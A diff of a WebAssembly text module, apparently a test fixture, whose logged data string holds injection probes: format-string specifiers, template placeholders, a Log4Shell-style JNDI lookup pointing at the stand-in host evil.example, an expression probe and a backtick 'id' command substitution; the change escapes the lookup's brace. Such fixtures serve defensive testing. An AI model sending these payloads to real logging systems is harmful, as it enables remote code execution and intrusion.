@@ -9,7 +9,7 @@
   (import "env" "log" (func $log (param i32 i32)))
   (memory (export "memory") 1)
   (data (i32.const 16)
-    "%s%n%x {} {0} ${jndi:ldap://evil.example/a} #{7*7} `id`")
+    "%s%n%x {} {0} $\7bjndi:ldap://evil.example/a} #{7*7} `id`")
   (func (export "alloc") (param $len i32) (result i32) (i32.const 1024))
   (func (export "process") (param $ptr i32) (param $len i32) (result i64)
     (call $log (i32.const 16) (i32.const 55))
